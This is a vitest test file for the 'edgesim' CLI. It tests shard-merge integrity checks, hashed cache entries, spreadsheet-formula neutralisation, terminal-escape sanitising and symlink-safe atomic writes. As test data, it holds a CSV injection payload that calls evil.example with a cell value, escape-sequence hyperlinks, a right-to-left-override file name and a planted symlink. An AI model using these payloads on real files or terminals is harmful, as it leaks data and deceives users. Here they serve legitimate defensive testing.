import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatCell, neutraliseFormula, textTableToCsv } from '../../src/results/csv.js';
import { cacheFile, readCachedRun, writeCachedRun } from '../../src/sweep/cache.js';
import { combineRows, runRow } from '../../src/sweep/combine.js';
import type { SweepRun } from '../../src/sweep/grammar.js';
import { writeAtomically } from '../../src/sweep/run-sweep.js';
import { forTerminal } from '../../src/terminal.js';
import { edgesim } from '../helpers/cli.js';

const base = readFileSync(resolve('test/fixtures/sweeps/base.yaml'), 'utf8').replace(
  'duration: 30 s',
  'duration: 10 s',
);

function temp(): string {
  return mkdtempSync(join(tmpdir(), 'edgesim-integrity-'));
}

/** base.yaml with a sweep block, written to `dir/s.yaml`. */
function scenarioWith(dir: string, sweep: string, name = 'sweep-base'): string {
  const text = base.replace('name: sweep-base', `name: ${JSON.stringify(name)}`);
  writeFileSync(join(dir, 's.yaml'), `${text}sweep:\n${sweep}\n`);
  return 's.yaml';
}

/** Six runs: three phone counts, two replications. Shard 1/2 holds runs 0, 2, 4; shard 2/2 runs 1, 3, 5. */
const SIX_RUNS = '  replications: 2\n  grid:\n    fleet[1].count: [1, 2, 3]';
/** Its header, then the rows of runs 1, 3 and 5. */
const SHARD2 = 'shard-2-of-2.csv';

/** The `devices` cell (the 8th column) of a cache entry's summary row. */
function devicesOf(entry: string): string | undefined {
  const [header = '', row = ''] = readFileSync(entry, 'utf8').split('\n');
  return row.split(',')[header.split(',').indexOf('devices')];
}

/** A summary row with its `devices` cell replaced. */
function setDevices(row: string, devices: string, header: string): string {
  const cells = row.split(',');
  cells[header.split(',').indexOf('devices')] = devices;
  return cells.join(',');
}

/** The lines of a file, edited by `edit`, written back. */
function editLines(file: string, edit: (lines: string[]) => string[]): void {
  const lines = readFileSync(file, 'utf8').split('\n');
  writeFileSync(file, edit(lines).join('\n'));
}

describe('merge checks that the shards hold every run exactly once', () => {
  let dir: string;
  let copies = 0;

  /**
   * A fresh copy of the two intact shards, `damage` done to it (given the
   * copy's shards/ directory), and what merging it did.
   */
  function mergeDamaged(damage: (shards: string) => void) {
    const copy = `bad-${++copies}`;
    cpSync(join(dir, 'sharded'), join(dir, copy), { recursive: true });
    damage(join(dir, copy, 'shards'));
    const merged = edgesim(['merge', copy, '--out', `${copy}-merged`], dir);
    return { ...merged, wrote: existsSync(join(dir, `${copy}-merged`, 'sweep.csv')) };
  }

  beforeAll(() => {
    dir = temp();
    const file = scenarioWith(dir, SIX_RUNS);
    expect(edgesim(['sweep', file, '--workers', '1', '--out', 'one'], dir).code).toBe(0);
    for (const shard of ['1/2', '2/2']) {
      const args = ['sweep', file, '--workers', '1', '--shard', shard, '--out', 'sharded'];
      expect(edgesim(args, dir).code).toBe(0);
    }
  });

  it('merges intact shards into the sweep.csv and sweep.json of a one-machine sweep', () => {
    const merged = edgesim(['merge', 'sharded', '--out', 'merged'], dir);
    expect(merged.code).toBe(0);
    expect(merged.stdout).toMatch(/merged 6 runs/);
    for (const file of ['sweep.csv', 'sweep.json']) {
      expect(readFileSync(join(dir, 'merged', file), 'utf8')).toBe(
        readFileSync(join(dir, 'one', file), 'utf8'),
      );
    }
  });

  it('refuses a shard with a row deleted, naming the shard and the missing run', () => {
    // shard-2-of-2.csv: header, then runs 1, 3, 5; line 2 is run 3.
    const result = mergeDamaged((shards) =>
      editLines(join(shards, SHARD2), (lines) => lines.filter((_, i) => i !== 2)),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /shard-2-of-2\.csv: run: missing run\(s\) 3: shard 2\/2 of a 6-run sweep holds 3 runs, found 2/,
    );
    expect(result.wrote).toBe(false);
  });

  it('refuses a shard with a row repeated, naming the repeated run', () => {
    const result = mergeDamaged((shards) =>
      editLines(join(shards, SHARD2), (lines) => [...lines.slice(0, 2), ...lines.slice(1)]),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/shard-2-of-2\.csv: run: run\(s\) 1 appear more than once/);
    expect(result.wrote).toBe(false);
  });

  it("refuses a row of another shard's run, naming it and the run it replaced", () => {
    const result = mergeDamaged((shards) =>
      editLines(join(shards, SHARD2), (lines) =>
        lines.map((line, i) => (i === 2 ? line.replace(/^3,/, '2,') : line)),
      ),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/missing run\(s\) 3/);
    expect(result.stderr).toMatch(/run id\(s\) "2" are not runs of shard 2\/2/);
  });

  it('refuses a truncated shard CSV with exit 2, naming it, without an internal error', () => {
    const result = mergeDamaged((shards) => {
      const file = join(shards, SHARD2);
      truncateSync(file, readFileSync(file).length - 40);
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/shard-2-of-2\.csv: is cut short/);
    expect(result.stderr).not.toMatch(/internal error|\n\s+at /);
  });

  it('refuses a shard CSV whose columns are not the sweep’s', () => {
    const result = mergeDamaged((shards) =>
      editLines(join(shards, SHARD2), ([header, ...rest]) => [
        header!.replace('fleet[1].count', 'fleet[1].cont'),
        ...rest,
      ]),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /shard-2-of-2\.csv: has columns .*fleet\[1\]\.cont; a shard of this sweep starts with run, point/,
    );
  });

  it('refuses a shard CSV edited after it was written (its manifest holds its hash)', () => {
    const result = mergeDamaged((shards) =>
      editLines(join(shards, SHARD2), (lines) =>
        lines.map((line, i) => (i === 1 ? line.replace(',completed,', ',completed ,') : line)),
      ),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/shard-2-of-2\.csv: content hash mismatch/);
  });

  it.each([
    ['not JSON', (text: string) => text.slice(0, 20), /shard-1-of-2\.json: is not valid JSON/],
    [
      'a field of the wrong type',
      (text: string) => text.replace('"runs": 6', '"runs": "6"'),
      /shard-1-of-2\.json: runs: .*expected number/,
    ],
    [
      'a shard index past the count',
      (text: string) => text.replace('"index": 1', '"index": 3'),
      /shard-1-of-2\.json: shard: expected index <= count/,
    ],
  ])('refuses a shard manifest that is %s with exit 2 naming it', (_, edit, message) => {
    const result = mergeDamaged((shards) => {
      const file = join(shards, 'shard-1-of-2.json');
      writeFileSync(file, edit(readFileSync(file, 'utf8')));
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(/internal error/);
  });

  it('refuses a shard whose manifest is missing', () => {
    const result = mergeDamaged((shards) => rmSync(join(shards, 'shard-1-of-2.json')));
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/shard-1-of-2\.json: missing: expected a shard manifest/);
    expect(result.stderr).not.toMatch(/internal error/);
  });
});

describe('sweep cache entries carry the hash of their content', () => {
  let dir: string;

  beforeAll(() => {
    dir = temp();
    const file = scenarioWith(dir, '  grid:\n    fleet[1].count: [1, 2]');
    expect(edgesim(['sweep', file, '--workers', '1', '--out', 'reference'], dir).code).toBe(0);
  });

  /** The reference sweep copied to `name`, its cache entry of run 0 damaged, and the sweep run again. */
  function resumeDamaged(name: string, damage: (file: string) => void) {
    cpSync(join(dir, 'reference'), join(dir, name), { recursive: true });
    const runsDir = join(dir, name, 'runs');
    const entries = readdirSync(runsDir).filter((f) => f.endsWith('.csv'));
    expect(entries).toHaveLength(2);
    // Run 0 (5 cams, 1 phone, 2 jetsons): the entry whose summary says 8 devices.
    const entry = entries.find((f) => devicesOf(join(runsDir, f)) === '8')!;
    damage(join(runsDir, entry));
    const result = edgesim(['sweep', 's.yaml', '--workers', '1', '--out', name], dir);
    return { ...result, entry };
  }

  it.each([
    [
      'edited',
      (file: string) =>
        editLines(file, (lines) =>
          lines.map((l, i) => (i === 1 ? setDevices(l, '9', lines[0]!) : l)),
        ),
      'content hash mismatch',
    ],
    ['emptied', (file: string) => truncateSync(file, 0), 'empty'],
    [
      'cut short',
      (file: string) => truncateSync(file, readFileSync(file).length - 30),
      'no content hash',
    ],
  ])(
    'a cache entry %s is re-run with a warning, and sweep.csv is the uninterrupted sweep’s',
    (how, damage, reason) => {
      const result = resumeDamaged(`resumed-${how.replace(' ', '-')}`, damage);
      expect(result.code).toBe(0);
      expect(result.stderr).toContain(
        `runs/${result.entry} is damaged (${reason}); running it again`,
      );
      expect(result.stderr).toMatch(/1 cached, 1 to run/);
      expect(result.stderr).not.toMatch(/internal error/);
      const resumed = `resumed-${how.replace(' ', '-')}`;
      expect(readFileSync(join(dir, resumed, 'sweep.csv'), 'utf8')).toBe(
        readFileSync(join(dir, 'reference', 'sweep.csv'), 'utf8'),
      );
      // The re-run replaced the damaged entry with a whole one.
      expect(
        readCachedRun(join(dir, resumed, 'runs'), result.entry.replace('.csv', '')).state,
      ).toBe('valid');
    },
  );

  it('an entry is its CSV and a last line with the SHA-256 of that CSV', () => {
    const runsDir = join(temp(), 'runs');
    writeCachedRun(runsDir, 'k', { columns: ['scenario', 'delta_s'], rows: [['=x', -0.5]] });
    const csv = "scenario,delta_s\n'=x,-0.5\n";
    const hash = createHash('sha256').update(csv).digest('hex');
    expect(readFileSync(cacheFile(runsDir, 'k'), 'utf8')).toBe(`${csv}#sha256:${hash}\n`);
    expect(readCachedRun(runsDir, 'k')).toEqual({
      state: 'valid',
      summary: { scenario: "'=x", delta_s: '-0.5' },
    });
    expect(readdirSync(runsDir)).toEqual(['k.csv']);
  });

  it('a missing entry is missing; a directory or a symbolic link in its place is damaged', () => {
    const runsDir = join(temp(), 'runs');
    mkdirSync(join(runsDir, 'd.csv'), { recursive: true });
    writeFileSync(join(runsDir, 'target'), 'anything');
    symlinkSync(join(runsDir, 'target'), join(runsDir, 'l.csv'));
    expect(readCachedRun(runsDir, 'none')).toEqual({ state: 'missing' });
    expect(readCachedRun(runsDir, 'd')).toEqual({ state: 'damaged', reason: 'not a regular file' });
    expect(readCachedRun(runsDir, 'l')).toEqual({ state: 'damaged', reason: 'unreadable (ELOOP)' });
  });
});

describe('spreadsheet formulas in CSV cells from user strings', () => {
  it.each(['=1+2', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
    'text %j gets a leading quote',
    (text) => {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
      expect(formatCell(text)).toBe(`'${text}`);
    },
  );

  it('leaves other text, already neutralised text and numbers unchanged', () => {
    expect(neutraliseFormula('cams')).toBe('cams');
    expect(neutraliseFormula("'=1+2")).toBe("'=1+2");
    expect(neutraliseFormula('')).toBe('');
    expect(formatCell(-0.5)).toBe('-0.5');
    expect(formatCell(-1e-3)).toBe('-0.001');
    expect(formatCell(Number.NEGATIVE_INFINITY)).toBe('-Infinity');
  });

  it('the combined table keeps summary text as the run wrote it and neutralises errors and swept strings', () => {
    const run = (index: number, params: Record<string, unknown>): SweepRun => ({
      index,
      point: index,
      replication: 0,
      seed: 1,
      params,
      scenario: {},
    });
    const rows = [
      runRow(run(0, { name: '=HYPERLINK("http://evil","x")', x: -2 }), {
        summary: { delta_s: '-0.5', tiny: '-1e-21', low: '-Infinity' },
      }),
      runRow(run(1, { name: 'plain', x: 3 }), { error: '-bad: =cmd' }),
    ];
    expect(textTableToCsv(combineRows(rows, ['name', 'x']))).toBe(
      'run,point,replication,seed,status,error,name,x,delta_s,tiny,low\n' +
        `0,0,0,1,completed,,"'=HYPERLINK(""http://evil"",""x"")",-2,-0.5,-1e-21,-Infinity\n` +
        "1,1,0,1,failed,'-bad: =cmd,plain,3,,,\n",
    );
  });

  it('a swept name like =HYPERLINK(...) is quoted in sweep.csv, every other cell as with a plain name', () => {
    const dir = temp();
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const swept = (names: string[]) =>
      `  grid:\n    name: ${JSON.stringify(names)}\n    fleet[1].count: [1, 2]`;
    mkdirSync(join(dir, 'a'));
    mkdirSync(join(dir, 'b'));
    scenarioWith(join(dir, 'a'), swept([hostile, '+cams']), hostile);
    scenarioWith(join(dir, 'b'), swept(['n1', 'n2']));
    expect(
      edgesim(['sweep', 's.yaml', '--workers', '1', '--out', 'out'], join(dir, 'a')).code,
    ).toBe(0);
    expect(
      edgesim(['sweep', 's.yaml', '--workers', '1', '--out', 'out'], join(dir, 'b')).code,
    ).toBe(0);
    const read = (d: string) =>
      readFileSync(join(dir, d, 'out', 'sweep.csv'), 'utf8')
        .trim()
        .split('\n');
    const [a, b] = [read('a'), read('b')];
    const quoted = `"'${hostile.replaceAll('"', '""')}"`;
    expect(a).toHaveLength(5);
    expect(a[0]).toBe(b[0]);
    const names = ['n1', 'n1', 'n2', 'n2'];
    a.slice(1).forEach((line, i) => {
      const expected = i < 2 ? quoted : "'+cams";
      // Name column and scenario column (the summary's), then the rest byte for byte.
      expect(line.split(expected).join('NAME')).toBe(b[i + 1]!.split(names[i]!).join('NAME'));
      expect(line.split(expected)).toHaveLength(3);
    });
  });
});

describe('names printed to a terminal', () => {
  it('shows C0, DEL, C1 and bidirectional controls as escapes and keeps other text', () => {
    expect(forTerminal('\u001b]8;;http://evil\u0007x\u001b[31m')).toBe(
      '\\x1b]8;;http://evil\\x07x\\x1b[31m',
    );
    expect(forTerminal('a\u007fb\u009bc\u0000d\re')).toBe('a\\x7fb\\x9bc\\x00d\\x0de');
    expect(forTerminal('abc\u202efdp.exe')).toBe('abc\\u202efdp.exe');
    expect(forTerminal('tab\there\nnext: é, 日本, C:\\path')).toBe(
      'tab\there\nnext: é, 日本, C:\\path',
    );
  });

  it('edgesim run prints a name holding escape sequences escaped', () => {
    const dir = temp();
    const name = '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007\u001b[2J';
    writeFileSync(
      join(dir, 's.yaml'),
      base.replace('name: sweep-base', `name: ${JSON.stringify(name)}`),
    );
    const result = edgesim(['run', 's.yaml', '--out', 'out'], dir);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      'scenario               \\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07\\x1b[2J',
    );
    expect(result.stdout).not.toContain('\u001b');
  });
});

describe('writeAtomically', () => {
  it('never writes through a file planted at a temp name (it used to be file.tmp-<pid>)', () => {
    const dir = temp();
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'keep me');
    symlinkSync(victim, join(dir, `out.csv.tmp-${process.pid}`));
    writeAtomically(join(dir, 'out.csv'), 'a,b\n');
    expect(readFileSync(victim, 'utf8')).toBe('keep me');
    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe('a,b\n');
    expect(readdirSync(dir).filter((f) => f.startsWith('.edgesim-tmp-'))).toEqual([]);
  });

  it('removes its temp file when the write fails', () => {
    const dir = temp();
    mkdirSync(join(dir, 'out.csv', 'inside'), { recursive: true });
    expect(() => writeAtomically(join(dir, 'out.csv'), 'a,b\n')).toThrow();
    expect(readdirSync(dir)).toEqual(['out.csv']);
  });
});
